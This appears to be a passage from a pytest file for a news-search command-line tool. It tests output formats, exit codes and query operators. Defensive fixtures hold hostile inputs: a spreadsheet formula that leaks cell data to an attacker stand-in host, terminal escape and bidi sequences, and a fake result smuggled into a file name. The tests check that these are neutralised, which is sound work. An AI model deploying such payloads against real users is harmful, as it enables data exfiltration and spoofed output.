"""The `search` and `searchlib` commands: output, JSON shape, colour and exit codes."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from searchlib import Article, Index, Quote
from searchlib_cli import common
from searchlib_cli.main import main as searchlib_command
from searchlib_cli.search import search as search_command

from .conftest import HIT_KEYS, REPOSITORY, SEED, SEED_ID
from .test_index import DATED, PHRASE_ARTICLES, README_DATES


@pytest.fixture
def built(tmp_path: Path, articles: Path, seeds: Path) -> Path:
    """An index folder holding the fixture articles and the seed."""
    with Index(tmp_path / "built") as index:
        index.add_folder(articles)
        index.add_folder(seeds)
    return tmp_path / "built"


def run(command, *arguments: str, **environment: str) -> Result:
    return CliRunner(env=environment).invoke(command, list(arguments), catch_exceptions=False)


def assert_one_line_error(result: Result, text: str) -> None:
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1 and text in result.stderr
    assert "Traceback" not in result.stderr


def test_search_finds_the_seed_and_exits_0(built: Path) -> None:
    result = run(search_command, "Byrne JAG", "--index", str(built))
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    title = "President Trump and his attorney general, Jeff Sessions, may be embroiled in a tense…"
    assert lines[0] == f"1. {title}"
    assert "Byrne JAG grants" in lines[1]
    assert lines[2].startswith(f"   {SEED_ID} · score ")
    assert " · in body and quotes, said by Jeff Sessions · " in lines[2]
    assert lines[-1] == "2 hits"
    assert "\x1b[" not in result.stdout  # not a terminal: plain


def test_json_output_shape(built: Path) -> None:
    result = run(search_command, "Byrne JAG", "--index", str(built), "--json", "-n", "1")
    assert result.exit_code == 0
    (hit,) = json.loads(result.stdout)
    assert list(hit) == HIT_KEYS
    assert (hit["id"], hit["rank"], hit["headline"]) == (SEED_ID, 1, None)
    assert isinstance(hit["score"], float) and hit["score"] > 0
    start, end = hit["highlights"][0]
    assert hit["snippet"][start:end] == "Byrne"
    assert hit["path"].endswith("000_a130046a36110d8b.txt")


def test_a_speaker_match_reads_as_quotes_said_by(built: Path) -> None:
    result = run(search_command, "speaker:Homan", "--index", str(built))
    assert " · in quotes, said by Thomas Homan · " in result.stdout.splitlines()[2]


def test_jsonl_writes_an_object_a_line(built: Path) -> None:
    result = run(search_command, "Byrne JAG", "--index", str(built), "--jsonl")
    assert result.exit_code == 0
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [row["rank"] for row in rows] == [1, 2] and list(rows[0]) == HIT_KEYS
    assert rows == json.loads(
        run(search_command, "Byrne JAG", "--index", str(built), "--json").stdout
    )


def test_csv_writes_a_header_then_a_row_a_hit(built: Path) -> None:
    result = run(search_command, "Byrne JAG", "--index", str(built), "--csv")
    assert result.exit_code == 0
    header, *rows = list(csv.reader(result.stdout.splitlines()))
    assert header == HIT_KEYS and len(rows) == 2
    seed = dict(zip(header, rows[0], strict=True))
    assert (seed["id"], seed["rank"], seed["headline"]) == (SEED_ID, "1", "")
    assert (seed["fields"], seed["speakers"]) == ("body; quotes", "Jeff Sessions")
    spans = [span.split(":") for span in seed["highlights"].split("; ")]
    assert [seed["snippet"][int(start) : int(end)] for start, end in spans] == ["Byrne", "JAG"]


def test_fields_choose_the_keys_written(built: Path) -> None:
    arguments = ["Byrne JAG", "--index", str(built), "--fields", "title, id"]
    (first, _) = json.loads(run(search_command, *arguments, "--json").stdout)
    assert list(first) == ["title", "id"] and first["id"] == SEED_ID
    lines = run(search_command, *arguments, "--jsonl").stdout.splitlines()
    assert [list(json.loads(line)) for line in lines] == [["title", "id"]] * 2
    assert run(search_command, *arguments, "--csv").stdout.splitlines()[0] == "title,id"


def test_offset_pages_through_the_hits(built: Path) -> None:
    every = json.loads(run(search_command, "Byrne", "--index", str(built), "--json").stdout)
    arguments = ["Byrne", "--index", str(built), "-n", "1", "--offset", "1"]
    second = json.loads(run(search_command, *arguments, "--json").stdout)
    assert len(every) == 2 and second == every[1:]
    assert run(search_command, *arguments).stdout.splitlines()[-1] == "2-2 of 2 hits"
    beyond = run(search_command, "Byrne", "--index", str(built), "--offset", "2", "--json")
    assert (beyond.exit_code, json.loads(beyond.stdout)) == (1, [])


def test_no_hits_in_jsonl_and_csv_write_no_rows_and_exit_1(built: Path) -> None:
    jsonl = run(search_command, "walrus", "--index", str(built), "--jsonl")
    assert (jsonl.exit_code, jsonl.stdout) == (1, "")
    table = run(search_command, "walrus", "--index", str(built), "--csv", "--fields", "id,rank")
    assert (table.exit_code, table.stdout) == (1, "id,rank\n")


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--json", "--csv"], "--json and --csv can't be used together"),
        (["--jsonl", "--json"], "--json and --jsonl can't be used together"),
        (["--json", "--jsonl", "--csv"], "--json and --jsonl and --csv can't be used together"),
        (["--json", "--fields", "id,nme"], "unknown 'nme'; choose from " + ", ".join(HIT_KEYS)),
        (["--csv", "--fields", " , "], "no key given; choose from id, rank"),
        (["--fields", "id"], "--fields chooses what --json, --jsonl or --csv write"),
        (["--offset", "-1"], "Invalid value for '--offset'"),
    ],
)
def test_conflicting_formats_and_unknown_fields_are_usage_errors(
    built: Path, arguments: list[str], message: str
) -> None:
    result = run(search_command, "Byrne", "--index", str(built), *arguments)
    assert (result.exit_code, result.stdout) == (2, "")
    assert message in result.stderr and "Usage: search" in result.stderr


def test_no_hits_exits_1(built: Path) -> None:
    result = run(search_command, "walrus", "--index", str(built))
    assert (result.exit_code, result.stdout) == (1, "0 hits\n")
    result = run(search_command, "walrus", "--index", str(built), "--json")
    assert (result.exit_code, json.loads(result.stdout)) == (1, [])


def test_warnings_go_to_stderr(built: Path) -> None:
    result = run(search_command, "nosuchfield:Byrne", "--index", str(built), "--json")
    assert result.exit_code == 0
    assert result.stderr.startswith("warning: unknown field 'nosuchfield': searched Byrne")
    assert len(json.loads(result.stdout)) == 2


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["+++"], "nothing to search for: ignored +++: only punctuation or symbols"),
        (["Byrne", "--index", "no/such/index"], "no index in no/such/index"),
    ],
)
def test_errors_are_one_line_and_exit_2(built: Path, arguments: list[str], message: str) -> None:
    if "--index" not in arguments:
        arguments += ["--index", str(built)]
    assert_one_line_error(run(search_command, *arguments), message)


def test_interrupt_exits_130_and_unexpected_failures_are_one_line(
    built: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(*arguments, **keywords):
        raise KeyboardInterrupt

    monkeypatch.setattr(Index, "search", interrupted)
    result = run(search_command, "Byrne", "--index", str(built))
    assert result.exit_code == 130
    assert result.stderr == "Interrupted; the index keeps its last complete update.\n"

    def broken(*arguments, **keywords):
        raise ZeroDivisionError("division by zero")

    monkeypatch.setattr(Index, "search", broken)
    for debug in ("", "0"):
        result = run(search_command, "Byrne", "--index", str(built), SEARCHLIB_DEBUG=debug)
        assert_one_line_error(result, "unexpected failure: ZeroDivisionError: division by zero")
    with pytest.raises(ZeroDivisionError):
        run(search_command, "Byrne", "--index", str(built), SEARCHLIB_DEBUG="1")


def test_bad_options_exit_2(built: Path) -> None:
    result = run(search_command, "Byrne", "--index", str(built), "-n", "0")
    assert result.exit_code == 2
    assert "Invalid value for '-n' / '--limit'" in result.stderr


def test_locked_index_exits_2(built: Path, tmp_path: Path, articles: Path) -> None:
    with Index(built) as holder, holder._folder.writing():
        result = run(
            searchlib_command,
            "index",
            str(articles),
            "--index",
            str(built),
            "--lock-timeout",
            "0.1",
        )
    assert_one_line_error(result, "being written by another process (waited 0.1 s)")


def test_garbled_index_exits_2(built: Path) -> None:
    for table_of_contents in built.glob("*.toc"):
        table_of_contents.write_bytes(b"garbage")
    assert_one_line_error(run(search_command, "Byrne", "--index", str(built)), "can't be read")


def test_colour_always_never_and_no_color(built: Path) -> None:
    coloured = run(search_command, "Byrne", "--index", str(built), "--color", "always")
    assert "\x1b[31m\x1b[1mByrne\x1b[0m" in coloured.stdout
    plain = run(search_command, "Byrne", "--index", str(built), "--color", "never")
    assert "\x1b[" not in plain.stdout


def test_auto_colour_follows_the_terminal_and_no_color(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    assert common.use_color("auto")
    monkeypatch.setenv("NO_COLOR", "1")
    assert not common.use_color("auto")
    assert common.use_color("always")


def test_article_text_cannot_inject_terminal_escapes(tmp_path: Path) -> None:
    with Index(tmp_path / "index") as index:
        index.add(Article(id="evil", body="walrus \x1b]0;owned\x07 \x1b[2J text"))
    result = run(search_command, "walrus", "--index", str(tmp_path / "index"), "--color", "never")
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout


HOSTILE = "walrus \x9b31m \x7f \u202eexe.txt\u202c \u2066 \u2028 \x1b]0;owned\x07 end"
"""Text that steers a terminal: CSI (C1), DEL, bidirectional overrides and isolates, a line
separator, and an OSC sequence (ESC ... BEL)."""
_STEERING = ["\x9b", "\x7f", "\u202e", "\u202c", "\u2066", "\u2028", "\x1b", "\x07"]


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """An index of articles whose text, headline and file name try to steer the reader."""
    with Index(tmp_path / "hostile") as index:
        index.add(
            Article(
                id="formula",
                headline='=HYPERLINK("http://evil.example/?"&A1,"walrus")',
                body="walrus -2 @SUM(A1)",
                quotes=[Quote("walrus", speaker="@Evil")],
                path="/archive/a.txt\n2. Fake hit\n   fake/id · score 9.99",
            )
        )
        index.add(Article(id="steer", headline="+1 walrus", body=HOSTILE, path="/archive/b.txt"))
    return tmp_path / "hostile"


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(hostile: Path) -> None:
    result = run(search_command, "walrus", "--index", str(hostile), "--csv")
    header, *rows = csv.reader(io.StringIO(result.stdout))
    hits = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert hits["formula"]["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"walrus")'
    assert hits["formula"]["speakers"] == "'@Evil"
    assert hits["steer"]["headline"] == "'+1 walrus"
    assert hits["formula"]["snippet"] == "walrus -2 @SUM(A1)"  # only a cell's start counts
    assert not any(cell and cell[0] in "=+-@\t\r" for row in rows for cell in row)
    numbers = run(search_command, "walrus", "--index", str(hostile), "--csv", "--fields", "rank")
    assert numbers.stdout.splitlines() == ["rank", "1", "2"]


@pytest.mark.parametrize("output", ["--json", "--jsonl"])
def test_json_escapes_every_control_and_keeps_the_text(hostile: Path, output: str) -> None:
    result = run(
        search_command, "walrus", "--index", str(hostile), output, "--fields", "id,snippet"
    )
    assert result.exit_code == 0
    assert not any(character in result.stdout for character in _STEERING)
    rows = (
        json.loads(result.stdout)
        if output == "--json"
        else [json.loads(line) for line in result.stdout.splitlines()]
    )
    with Index(hostile) as index:
        assert rows == [
            {"id": row["id"], "snippet": row["snippet"]}
            for row in index.search("walrus").to_dicts()
        ]
    assert any("\u202eexe.txt\u202c" in row["snippet"] for row in rows)


def test_show_json_escapes_every_control_and_keeps_the_text(hostile: Path) -> None:
    result = run(searchlib_command, "show", "steer", "--index", str(hostile), "--json")
    assert not any(character in result.stdout for character in _STEERING)
    assert json.loads(result.stdout)["body"] == HOSTILE


def test_people_view_drops_controls_and_escapes_line_breaks_in_file_names(hostile: Path) -> None:
    for command, arguments in [
        (search_command, ["walrus"]),
        (searchlib_command, ["show", "steer"]),
        (searchlib_command, ["show", "formula"]),
    ]:
        result = run(command, *arguments, "--index", str(hostile), "--color", "never")
        assert not any(character in result.stdout for character in _STEERING)
    lines = run(search_command, "walrus", "--index", str(hostile)).stdout.splitlines()
    assert sorted(line[3:] for line in lines if line[:3] in ("1. ", "2. ")) == [
        "+1 walrus",
        '=HYPERLINK("http://evil.example/?"&A1,"walrus")',
    ]
    assert any(
        line.endswith(" · /archive/a.txt\\n2. Fake hit\\n   fake/id · score 9.99") for line in lines
    )


def test_a_lone_surrogate_in_an_article_does_not_break_output(tmp_path: Path) -> None:
    with Index(tmp_path / "index") as index:
        index.add(Article(id="odd", headline="walrus \ud800", body="walrus \udfff text"))
    for output in ([], ["--json"], ["--jsonl"], ["--csv"]):
        result = run(search_command, "walrus", "--index", str(tmp_path / "index"), *output)
        assert result.exit_code == 0, result.stderr
        result.stdout.encode()  # text any terminal or file can take


def test_index_paths_are_printed_escaped(tmp_path: Path, articles: Path) -> None:
    target = str(tmp_path / "esc\x1b]0;PWNED\x07")
    commands = [
        ["index", str(articles), "--index", target],
        ["stats", "--index", target],
        ["check", "--index", target],
    ]
    for arguments in commands:
        result = run(searchlib_command, *arguments)
        assert result.exit_code == 0, result.stderr
        assert "\x1b" not in result.output and "\x07" not in result.output
        assert "esc\\x1b]0;PWNED\\x07" in result.stdout


def test_missing_default_index_is_built_from_seeds(
    tmp_path: Path, seeds: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # holds ./seeds and an empty ./index, as a fresh clone does
    monkeypatch.delenv("SEARCHLIB_INDEX", raising=False)
    (tmp_path / "index").mkdir()
    (tmp_path / "index" / ".gitkeep").touch()
    first = run(search_command, "Byrne JAG")
    assert first.exit_code == 0
    assert "No index in ./index yet: building it from ./seeds (once): 1 article file in " in (
        first.stderr
    )
    assert "Indexed ./seeds: 1 added" in first.stderr
    assert (tmp_path / "index").is_dir()
    second = run(search_command, "Byrne JAG")
    assert second.exit_code == 0 and second.stderr == ""
    assert second.stdout == first.stdout


def test_a_seeds_folder_without_articles_builds_no_index(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # a program's folder: ./seeds holds its seed data
    monkeypatch.delenv("SEARCHLIB_INDEX", raising=False)
    (tmp_path / "seeds").mkdir()
    (tmp_path / "seeds" / "users.rb").write_text('User.create!(name: "Byrne")\n')
    result = run(search_command, "Byrne")
    assert_one_line_error(result, "no index in index; build one with `searchlib index PATH`")
    assert not (tmp_path / "index").exists()


def test_index_environment_variable(built: Path) -> None:
    result = run(search_command, "Byrne JAG", SEARCHLIB_INDEX=str(built))
    assert result.exit_code == 0


def test_searchlib_index_stats_and_show(tmp_path: Path, articles: Path, seeds: Path) -> None:
    target = str(tmp_path / "made")
    (articles / "binary.txt").write_bytes(b"\x00\x01\x02")
    indexed = run(searchlib_command, "index", str(articles), str(seeds), "--index", target)
    assert indexed.exit_code == 0
    assert "6 added, 0 updated, 0 removed, 0 unchanged, 1 skipped" in indexed.stdout
    assert indexed.stdout.splitlines()[-1] == f"{target}: 7 articles"
    assert "warning: skipped" in indexed.stderr and "binary file" in indexed.stderr
    again = run(searchlib_command, "index", str(articles), "--index", target)
    assert "0 added, 0 updated, 0 removed, 6 unchanged, 1 skipped" in again.stdout

    stats = json.loads(run(searchlib_command, "stats", "--index", target, "--json").stdout)
    assert stats["documents"] == 7 and stats["size_bytes"] > 0
    assert stats["analyzer"].startswith("searchlib-")

    shown = run(searchlib_command, "show", SEED_ID, "--index", target)
    assert shown.exit_code == 0
    assert "Credit: Alan Diaz / AP" in shown.stdout
    assert "- Jeff Sessions: “So-called ‘sanctuary’ policies" in shown.stdout
    as_json = json.loads(
        run(searchlib_command, "show", SEED_ID, "--index", target, "--json").stdout
    )
    assert as_json["credit"] == "Alan Diaz / AP" and len(as_json["quotes"]) == 10
    missing = run(searchlib_command, "show", "nope", "--index", target)
    assert missing.exit_code == 1 and "no article with id 'nope'" in missing.stderr


def test_searchlib_index_needs_existing_paths(tmp_path: Path) -> None:
    result = run(searchlib_command, "index", str(tmp_path / "absent"), "--index", str(tmp_path))
    assert result.exit_code == 2 and "does not exist" in result.stderr


def test_searchlib_index_reads_csv_with_a_field_mapping(tmp_path: Path) -> None:
    news = tmp_path / "news.csv"
    news.write_text("uuid,name,content\nu1,Harbour plan,The council approved it.\n")
    target = str(tmp_path / "made")
    mapping = ["--field", "id=uuid", "--field", "headline=name", "--field", "body = content"]
    result = run(searchlib_command, "index", str(news), "--index", target, *mapping)
    assert result.exit_code == 0 and "1 added" in result.stdout
    shown = json.loads(run(searchlib_command, "show", "u1", "--index", target, "--json").stdout)
    assert (shown["headline"], shown["body"]) == ("Harbour plan", "The council approved it.")


def test_searchlib_index_says_a_field_mapping_is_ignored_for_a_folder(
    tmp_path: Path, articles: Path
) -> None:
    arguments = [str(articles), "--index", str(tmp_path / "made"), "--field", "body=content"]
    result = run(searchlib_command, "index", *arguments)
    assert result.exit_code == 0
    assert f"warning: --field maps a records file's keys; ignored for folder {articles}" in (
        result.stderr
    )


@pytest.mark.parametrize(
    ("field", "message"),
    [
        ("text=content", "no field 'text' to map a record's key to; the fields are id, headline,"),
        ("body", "'body' is not NAME=KEY"),
    ],
)
def test_searchlib_index_refuses_unknown_fields(tmp_path: Path, field: str, message: str) -> None:
    target = tmp_path / "made"
    arguments = [str(tmp_path), "--index", str(target), "--field", field]
    result = run(searchlib_command, "index", *arguments)
    assert (result.exit_code, result.stdout) == (2, "")
    assert "Invalid value for '--field'" in result.stderr and message in result.stderr
    assert not target.exists()


@pytest.mark.parametrize("quiet", [[], ["--quiet"], ["-q"]])
def test_searchlib_index_shows_no_progress_when_piped(
    tmp_path: Path, articles: Path, quiet: list[str]
) -> None:
    result = run(searchlib_command, "index", str(articles), "--index", str(tmp_path / "i"), *quiet)
    assert (result.exit_code, result.stderr) == (0, "")


def test_searchlib_index_shows_a_progress_bar_on_a_terminal(tmp_path: Path, articles: Path) -> None:
    pty = pytest.importorskip("pty")

    def stderr_on_a_terminal(*arguments: str) -> str:
        terminal, stderr = pty.openpty()
        command = [sys.executable, "-c", "from searchlib_cli.main import main; main()", "index"]
        with subprocess.Popen(
            [*command, str(articles), "--index", str(tmp_path / "i"), *arguments],
            stdout=subprocess.DEVNULL,
            stderr=stderr,
        ) as process:
            os.close(stderr)
            written = []
            with contextlib.suppress(OSError):  # raised at the end on Linux, once it exits
                while data := os.read(terminal, 4096):
                    written.append(data)
        os.close(terminal)
        assert process.returncode == 0
        return b"".join(written).decode()

    bar = stderr_on_a_terminal()
    assert "indexing articles" in bar and " 6/6 " in bar and "100%" in bar and "/s" in bar
    assert stderr_on_a_terminal("--quiet") == ""


def test_installed_search_command_works(tmp_path: Path) -> None:
    executable = Path(sys.executable).parent / "search"
    if not executable.exists():
        pytest.skip("the search command is not installed next to this Python")
    (tmp_path / "seeds").mkdir()
    shutil.copy(SEED, tmp_path / "seeds")
    environment = {key: value for key, value in os.environ.items() if key != "SEARCHLIB_INDEX"}
    completed = subprocess.run(
        [str(executable), "Byrne JAG"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env=environment,
        timeout=120,
    )
    assert completed.returncode == 0, completed.stderr
    assert "Byrne JAG grants" in completed.stdout
    assert "building it from ./seeds" in completed.stderr
    missing = subprocess.run(
        [str(executable), "Byrne", "--index", "absent"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env=environment,
        timeout=120,
    )
    assert missing.returncode == 2
    assert (
        missing.stderr.strip() == "Error: no index in absent; build one with `searchlib index PATH`"
    )


def test_run_and_eval_on_a_small_collection(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus.jsonl"
    corpus.write_text(
        "\n".join(
            json.dumps({"_id": doc_id, "title": title, "text": text})
            for doc_id, title, text in [
                ("d1", "Aspirin and heart attacks", "Aspirin lowers the risk of heart attacks."),
                ("d2", "Statins", "Statins lower cholesterol in adults."),
                ("d3", "Heart rate", "Exercise raises the heart rate."),
            ]
        )
    )
    queries = tmp_path / "queries.jsonl"
    queries.write_text(
        '{"_id": "q1", "text": "Does aspirin lower heart attack risk?"}\n'
        '{"_id": "q2", "text": "cholesterol: statins"}\n'
        '{"_id": "q3", "text": "the of and"}\n'
    )
    qrels = tmp_path / "qrels.tsv"
    qrels.write_text("query-id\tcorpus-id\tscore\nq1\td1\t1\nq2\td2\t1\n")
    index = str(tmp_path / "index")
    assert run(searchlib_command, "index", str(corpus), "--index", index).exit_code == 0
    output = tmp_path / "run.trec"
    ranked = run(
        searchlib_command,
        "run",
        str(queries),
        "--index",
        index,
        "-o",
        str(output),
        "--qrels",
        str(qrels),
    )
    assert ranked.exit_code == 0, ranked.stderr
    assert ranked.stdout.startswith(f"2 queries ranked into {output}")
    lines = output.read_text().splitlines()
    assert lines[0].split()[:4] == ["q1", "Q0", "d1", "1"]
    q1_scores = [float(line.split()[4]) for line in lines if line.startswith("q1 ")]
    assert q1_scores == sorted(q1_scores, reverse=True) and len(set(q1_scores)) == len(q1_scores)
    assert {line.split()[0] for line in lines} == {"q1", "q2"}
    scored = run(searchlib_command, "eval", "--qrels", str(qrels), str(output), "--json")
    assert json.loads(scored.stdout) == {"nDCG@10": 1.0, "R@100": 1.0, "AP": 1.0, "RR@10": 1.0}
    text = run(searchlib_command, "eval", "--qrels", str(qrels), str(output)).stdout
    assert text.splitlines()[0] == "nDCG@10  1.0000"


def test_run_writes_ids_holding_spaces_and_eval_matches_them(tmp_path: Path) -> None:
    (tmp_path / "news").mkdir()
    (tmp_path / "news" / "my story.txt").write_text("The walrus story.\n")
    (tmp_path / "news" / "other.txt").write_text("A walrus and a walrus.\n")
    index = str(tmp_path / "index")
    assert run(searchlib_command, "index", str(tmp_path / "news"), "--index", index).exit_code == 0
    (tmp_path / "queries.tsv").write_text("q 1\twalrus story\n")
    qrels = tmp_path / "qrels.tsv"
    qrels.write_text("query-id\tcorpus-id\tscore\nq 1\tnews/my story\t1\n")
    output = tmp_path / "run.trec"
    arguments = [str(tmp_path / "queries.tsv"), "--index", index, "-o", str(output)]
    ranked = run(searchlib_command, "run", *arguments)
    assert ranked.exit_code == 0, ranked.stderr
    assert output.read_text().splitlines()[0].startswith("q%201 Q0 news/my%20story 1 ")
    scored = run(searchlib_command, "eval", "--qrels", str(qrels), str(output), "--json")
    assert json.loads(scored.stdout)["RR@10"] == 1.0


def test_run_refuses_queries_without_ids_in_one_line(tmp_path: Path, seeds: Path) -> None:
    (tmp_path / "queries.txt").write_text("sanctuary cities\nByrne JAG\n")
    output = tmp_path / "run.trec"
    arguments = ["run", str(tmp_path / "queries.txt"), "-o", str(output)]
    result = run(searchlib_command, *arguments, "--index", str(tmp_path / "absent"))
    assert_one_line_error(
        result,
        "queries.txt, line 1: expected a query as id<TAB>text or as JSON Lines with _id and text",
    )
    assert not output.exists()


def test_eval_reports_a_malformed_file_in_one_line(tmp_path: Path) -> None:
    qrels = tmp_path / "qrels.txt"
    qrels.write_text("q1 0 d1 yes\n")
    (tmp_path / "run.trec").write_text("q1 Q0 d1 1 1.0 x\n")
    result = run(searchlib_command, "eval", "--qrels", str(qrels), str(tmp_path / "run.trec"))
    assert_one_line_error(result, "qrels.txt, line 1")


BOM, RUNNERS = "articles/sport/bom_crlf", "articles/world/runners"
SESSION, SESSIONS = "articles/world/session", "articles/world/sessions"


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("sanctuary immigration", {SEED_ID}),
        ('"sanctuary cities"', {SEED_ID}),
        ('"sanctuary grants"', set()),
        # "sanctuary cities’ receipt of federal grants": common words count in the distance.
        ('"sanctuary grants"~3', set()),
        ('"sanctuary grants"~4', {SEED_ID}),
        ("Sessions AND Homan", {SEED_ID}),
        ("Homan OR marathon", {SEED_ID, RUNNERS}),
        ("Sessions NOT Trump", {SESSION, SESSIONS}),
        ("Byrne -sanctuary", {BOM}),
        ("+Byrne sanctuary", {SEED_ID, BOM}),
        ("marathon OR Byrne AND Sessions", {RUNNERS, SEED_ID}),
        ("(marathon OR Byrne) AND Sessions", {SEED_ID}),
        ("headline:Sessions", {SESSION, SESSIONS}),
        ("caption:rally", {SEED_ID}),
        ("body:Youngstown", {SEED_ID}),
        ("quotes:sanctuary", {SEED_ID}),
        ("speaker:Sessions", {SEED_ID}),
        ("credit:AP", {SEED_ID}),
        ("sanctu*", {SEED_ID}),
        ("Homen~", {SEED_ID}),
        ("Hmoan~", {SEED_ID}),  # two neighbouring letters swapped: one edit
    ],
)
def test_search_runs_each_operator(built: Path, query: str, found: set[str]) -> None:
    result = run(search_command, query, "--index", str(built), "--jsonl", "--fields", "id")
    assert result.exit_code == (0 if found else 1)
    assert {json.loads(line)["id"] for line in result.stdout.splitlines()} == found


def test_search_by_date_in_json_lines_records(tmp_path: Path) -> None:
    records = [
        {"id": "jan", "title": "Cocoa harvest", "text": "Cocoa prices rose.", "date": "2017-01-15"},
        {"id": "old", "title": "Cocoa review", "text": "Cocoa was cheap.", "date": "1987-02-26"},
    ]
    (tmp_path / "wire.jsonl").write_text("".join(json.dumps(record) + "\n" for record in records))
    target = str(tmp_path / "dated")
    indexed = run(searchlib_command, "index", str(tmp_path / "wire.jsonl"), "--index", target)
    assert indexed.exit_code == 0
    for query, found in [("date:[2017-01-01 TO *]", "jan"), ("cocoa AND date:<2017", "old")]:
        result = run(search_command, query, "--index", target, "--csv", "--fields", "id")
        assert result.stdout.splitlines() == ["id", found]


def test_search_runs_each_date_form_the_readme_shows(tmp_path: Path) -> None:
    (tmp_path / "wire.jsonl").write_text("".join(json.dumps(record) + "\n" for record in DATED))
    target = str(tmp_path / "dated")
    indexed = run(searchlib_command, "index", str(tmp_path / "wire.jsonl"), "--index", target)
    assert indexed.exit_code == 0
    for query, found in README_DATES:
        result = run(search_command, query, "--index", target, "--jsonl", "--fields", "id")
        assert {json.loads(line)["id"] for line in result.stdout.splitlines()} == found, query


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("Homan OR Gimenez", {SEED_ID}),
        ("(Homan OR Gimenez) AND immigration", {SEED_ID}),
        ("headline:(Byrne OR marathon)", {RUNNERS}),  # Byrne is in bodies only
        ("Miami-Dade", {SEED_ID}),
        ("U.S.", {"articles/world/economy", SEED_ID}),  # "US"; the seed's pronoun "us"
        ("Gimenes~2", {SEED_ID}),
    ],
)
def test_search_runs_the_readmes_other_examples(built: Path, query: str, found: set[str]) -> None:
    result = run(search_command, query, "--index", str(built), "--jsonl", "--fields", "id")
    assert (result.exit_code, result.stderr) == (0, "")
    assert {json.loads(line)["id"] for line in result.stdout.splitlines()} == found


@pytest.mark.parametrize(
    ("query", "warning", "hits"),
    [
        ("C++ Byrne", "warning: searched C++ as c: ignored '++'", 2),
        ('Byrne "', 'warning: ignored ": empty quotes', 2),
        ('"Byrne JAG', 'warning: unclosed quote: read "Byrne JAG" to the end as a phrase', 1),
        ("Byrne the", "warning: ignored the: only common words (stop words), which are not", 2),
    ],
)
def test_lenient_queries_warn_on_stderr_and_search_the_rest(
    built: Path, query: str, warning: str, hits: int
) -> None:
    result = run(search_command, query, "--index", str(built), "--json")
    assert result.exit_code == 0 and len(json.loads(result.stdout)) == hits
    (line,) = result.stderr.splitlines()
    assert line.startswith(warning)


def test_a_lone_quote_exits_2(built: Path) -> None:
    message = 'nothing to search for: ignored ": empty quotes'
    assert_one_line_error(run(search_command, '"', "--index", str(built)), message)


def test_phrases_keep_their_common_words(tmp_path: Path) -> None:
    index = tmp_path / "index"
    with Index(index) as phrases:
        phrases.add(*PHRASE_ARTICLES)

    def found(query: str) -> tuple[int, list[str]]:
        result = run(search_command, "--index", str(index), "--csv", "--fields", "id", "--", query)
        return result.exit_code, result.stdout.split()[1:]

    assert found('"Bank of England"') == (0, ["bank-of"])
    assert found('"Bank for England"') == (0, ["bank-for"])
    assert found('"Bank England"') == (0, ["bank-next"])
    assert found('"Take That"') == (0, ["band"])
    assert found("The Who") == (0, ["who"])  # as the shell passes search "The Who"
    assert found("to be or not to be") == (0, ["who"])
    assert found('"The Which"') == (1, [])


def test_did_you_mean_goes_to_stderr(built: Path) -> None:
    result = run(search_command, "Sesions sanctuery", "--index", str(built), "--json")
    assert (result.exit_code, json.loads(result.stdout)) == (1, [])
    assert result.stderr == "did you mean: Sessions sanctuary?\n"
    people = run(search_command, "speaker:Sesions", "--index", str(built))
    assert (people.stdout, people.stderr) == ("0 hits\n", "did you mean: speaker:Sessions?\n")
    assert run(search_command, "Sessions sanctuary", "--index", str(built)).stderr == ""


def test_similar_writes_hits_as_search_does(built: Path) -> None:
    arguments = ["similar", SEED_ID, "--index", str(built)]
    people = run(searchlib_command, *arguments, "-n", "2")
    assert people.exit_code == 0
    lines = people.stdout.splitlines()
    assert lines[0] == "1. Judge advocate named" and lines[-1] == "1-2 of 6 hits"
    rows = json.loads(run(searchlib_command, *arguments, "--json").stdout)
    assert len(rows) == 6 and list(rows[0]) == HIT_KEYS
    assert SEED_ID not in {row["id"] for row in rows}
    table = run(searchlib_command, *arguments, "-n", "1", "--csv", "--fields", "rank,id")
    assert table.stdout.splitlines() == ["rank,id", f"1,{BOM}"]
    missing = run(searchlib_command, "similar", "nope", "--index", str(built))
    assert_one_line_error(missing, "no article with id 'nope' in the index")


def test_facets_follow_the_hits_or_go_to_stderr(built: Path) -> None:
    arguments = ["sanctuary OR marathon", "--index", str(built), "-n", "1"]
    facets = ["--facet", "speaker", "--facet", "source"]
    speakers = "articles by speaker: Anna Bell (1), Jeff Sessions (1), The Associated Press (1), "
    speakers += "Thomas Homan (1), Trump (1)"
    sources = "articles by source: articles (1), seeds (1)"
    people = run(search_command, *arguments, *facets)
    assert people.stdout.splitlines()[-5:] == ["", speakers, sources, "", "1-1 of 2 hits"]
    machine = run(search_command, *arguments, *facets, "--json")
    assert len(json.loads(machine.stdout)) == 1
    assert machine.stderr.splitlines() == [f"facet {speakers}", f"facet {sources}"]
    assert "speaker:" not in run(search_command, *arguments).stdout


def test_the_readmes_explain_example_is_what_search_writes(tmp_path: Path, seeds: Path) -> None:
    readme = (REPOSITORY / "README.md").read_text(encoding="utf-8")
    shown = readme.split("`search 'Byrne JAG' --explain`:\n\n```\n", 1)[1].split("```")[0]
    with Index(tmp_path / "index") as index:  # what the first search builds from ./seeds
        index.add_folder(seeds)
